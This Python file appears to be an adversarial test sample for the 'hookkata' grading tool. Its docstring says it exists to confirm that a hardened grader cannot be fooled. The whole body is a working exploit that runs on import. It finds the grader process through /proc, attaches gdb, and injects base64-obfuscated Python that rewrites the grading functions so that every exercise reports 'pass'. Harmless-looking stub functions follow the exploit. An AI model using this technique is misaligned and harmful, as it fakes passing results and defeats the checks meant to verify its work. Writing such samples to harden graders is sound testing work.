"""Same-user debugger: gdb attaches to the trusted `hookkata grade` process and runs Python inside it (PyRun_SimpleString) that replaces its grading functions with ones that say pass; it then writes its reports and exits 0 as usual.
A correct grader must not report pass (the learner's code must not be able to trace the grader). Only targets a process whose argv has 'hookkata' and 'grade'."""
import base64
import os
import shutil
import subprocess

_PATCH = r'''
import sys
def _hostile_patch():
    import hookkata.grading.files as b
    from hookkata.grading.verdict import Verdict
    def _one(*args, **kwargs):
        ex = next(a for a in args if hasattr(a, "id") and hasattr(a, "title"))
        return Verdict(ex.id, ex.title, "pass")
    def _read(channel, exercises, path, **kwargs):
        return [Verdict(e.id, e.title, "pass") for e in exercises]
    for name, fn in (("_grade_one", _one), ("_read_verdicts", _read)):
        if hasattr(b, name):
            setattr(b, name, fn)
    import hookkata.grading.exercise as x
    x.grade = lambda exercise, answer, **k: Verdict(exercise.id, exercise.title, "pass")
    if hasattr(b, "grade"):
        b.grade = x.grade
_hostile_patch()
'''


def _grader():
    pid = os.getppid()
    for _ in range(6):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            return None
        if any(b"hookkata" in a for a in argv) and b"grade" in argv:
            return pid
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return None
    return None


_pid = _grader()
if _pid and shutil.which("gdb"):
    code = "import base64;exec(base64.b64decode('%s'))" % base64.b64encode(_PATCH.encode()).decode()
    subprocess.run(
        ["gdb", "-p", str(_pid), "-batch", "-nx",
         "-ex", "set $g = (int)PyGILState_Ensure()",
         "-ex", f'call (int)PyRun_SimpleString("{code}")',
         "-ex", "call (void)PyGILState_Release($g)"],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=50)


def audit_line(outcome):
    return "not json"


def summarize_session(outcomes, end):
    return {}
